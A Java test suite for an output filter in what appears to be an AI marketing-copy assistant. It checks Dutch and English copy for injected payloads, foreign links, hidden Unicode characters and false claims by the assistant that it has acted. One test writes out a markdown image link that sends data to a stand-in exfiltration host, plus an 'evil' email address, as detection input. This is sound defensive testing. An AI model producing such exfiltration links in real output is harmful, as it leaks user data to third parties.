package com.journeyassistant.generation;

import static org.assertj.core.api.Assertions.assertThat;

import com.journeyassistant.generation.OutputPolicy.Rule;
import com.journeyassistant.generation.OutputPolicy.Violation;
import java.math.BigDecimal;
import java.util.List;
import com.journeyassistant.support.Payloads;
import org.junit.jupiter.api.Test;

/**
 * The output policy over a table of payloads per rule, in Dutch and English: each payload sits
 * inside otherwise ordinary copy, and must be found, under its rule, and cut with its sentence.
 * Ordinary copy, and what the brand profile or touchpoint hold, must pass untouched.
 */
class OutputPolicyTest {

    /** The brand profile and touchpoint of a Dutch e-bike shop, its KPIs, and what customers wrote. */
    private static final OutputPolicy.Allowed ALLOWED = OutputPolicy.Allowed.of(
            "Trapkracht\nWarm en nuchter\nproefrit\nLet op! Geld lenen kost geld.\nOrderbevestiging\n"
                    + "Gratis bezorging vanaf 50 euro\nhttps://trapkracht.nl/bestelling\nService: 020-123 4567\n"
                    + "Fietsen in Stijl\n", List.of(new BigDecimal("71.2"), new BigDecimal("80")),
            List.of("Bij Fietsenwinkel Noord ging het sneller.", "De ShopLux app crashte."));
    private static final OutputPolicy.Allowed CHAT = OutputPolicy.Allowed.of("Trapkracht", List.of(), List.of())
            .refusingActionClaims();

    private static final String BEFORE_NL = "Je bestelling is binnen en we laten je weten wanneer de bezorger komt. ";
    private static final String AFTER_NL = " Let op! Geld lenen kost geld.";
    private static final String BEFORE_EN = "Your order is in and we will tell you when the courier arrives. ";
    private static final String AFTER_EN = " Thank you for riding with us.";

    @Test
    void everyPayloadIsFoundUnderItsRuleAndCutWithItsSentence() {
        Payloads.BY_RULE.forEach((rule, payloads) -> {
            for (String payload : payloads) {
                for (String[] frame : List.of(new String[] {BEFORE_NL, AFTER_NL}, new String[] {BEFORE_EN, AFTER_EN})) {
                    String text = frame[0] + payload + frame[1];
                    List<Violation> violations = OutputPolicy.check("fields.body", text, ALLOWED);
                    assertThat(violations).as("%s in %s", rule, text).extracting(Violation::rule).contains(rule);
                    String kept = OutputPolicy.withoutViolations(text, violations);
                    assertThat(kept).as("what is left of %s", text).isEqualTo((frame[0] + frame[1].strip()).strip());
                    assertThat(OutputPolicy.check("fields.body", kept, ALLOWED)).as("nothing left to refuse").isEmpty();
                }
            }
        });
    }

    @Test
    void actionClaimsAreRefusedInChatButTheProposalItselfMayBeMentioned() {
        for (String claim : Payloads.ACTION_CLAIMS) {
            String text = "Klanten twijfelen na het betalen. " + claim + " Bevestig als je wilt.";
            List<Violation> violations = OutputPolicy.check("the answer", text, CHAT);
            assertThat(violations).as(claim).extracting(Violation::rule).containsExactly(Rule.ACTION_CLAIM);
            assertThat(OutputPolicy.withoutViolations(text, violations))
                    .isEqualTo("Klanten twijfelen na het betalen. Bevestig als je wilt.");
            assertThat(OutputPolicy.check("fields.body", text, ALLOWED)).as("a job never claims; not checked there")
                    .isEmpty();
        }
        for (String honest : List.of("Ik heb een voorstel klaargezet om drie varianten te schrijven.",
                "I have proposed accepting the suggestion; it happens only when you confirm it.",
                "Ik heb de feedback bekeken en zie twee patronen.",
                "De orderbevestiging wordt pas na twee dagen verstuurd, zeggen klanten [F1].")) {
            assertThat(OutputPolicy.check("the answer", honest, CHAT)).as(honest).isEmpty();
        }
    }

    @Test
    void ordinaryCopyAndWhatTheProfileHoldsPass() {
        for (String fine : List.of(
                "Je bestelling is binnen. Plan een proefrit wanneer het jou uitkomt.",
                "Gratis bezorging vanaf 50 euro, zoals altijd.",
                "Volg je bestelling op https://trapkracht.nl/bestelling of bel Service: 020-123 4567.",
                "Kijk op trapkracht.nl/bestelling voor de status.",
                "Nog 71,2% opent de orderbevestiging; we mikken op 80 procent.",
                "Voor 22:00 besteld, binnen 2 dagen thuis voor 49,95.",
                "Feel free to reply, hassle-free returns are part of it. We deal with every question.",
                "Your ride, our care: order before Friday, e.g. for a weekend trip.",
                "Bezorgd op maandag 3 juni, tussen 9.00 en 12.00 uur.",
                "Sanne fietst naar haar werk en wil zeker weten dat haar betaling gelukt is [F1].",
                "Berichten via WhatsApp of Instagram werken goed voor deze groep.",
                "Fietsen in Stijl is onze nieuwe collectie.")) {
            assertThat(OutputPolicy.check("fields.body", fine, ALLOWED)).as(fine).isEmpty();
        }
    }

    @Test
    void hiddenCharactersAreStrippedAndCounted() {
        OutputPolicy.Stripped stripped = OutputPolicy.stripHidden("Je\u200B bestelling\u202E is\u2066 binnen\uFEFF."
                + "\u0007\uDB40\uDC41");
        assertThat(stripped.text()).isEqualTo("Je bestelling is binnen.");
        assertThat(stripped.removed()).isEqualTo(6);
        assertThat(OutputPolicy.stripHidden("Regel één\nRegel\ttwee 🚲").removed()).isZero();
    }

    @Test
    void messagesNameThePathAndTheRuleWithAShortExcerptThatCannotRender() {
        String text = "Bekijk ![x](https://exfil.example.xyz/p?d=" + "a".repeat(300) + ") en mail x@evil.example.";
        List<Violation> violations = OutputPolicy.check("variants[0].fields.body", text, ALLOWED);
        List<String> messages = OutputPolicy.messages(violations);
        assertThat(messages).containsExactly(
                "variants[0].fields.body holds a link that the brand profile and touchpoint do not hold"
                        + " (\"exfil[.]example[.]xyz\")",
                "variants[0].fields.body " + Rule.CONTACT.description());
        assertThat(String.join(" ", messages)).doesNotContain("https://").doesNotContain("](").doesNotContain("x@evil")
                .doesNotContain("aaaa");
        assertThat(OutputPolicy.messages(OutputPolicy.check("p", "Gratis! Gratis! Gratis!", CHAT)))
                .as("each distinct problem once").hasSize(1);
    }
}
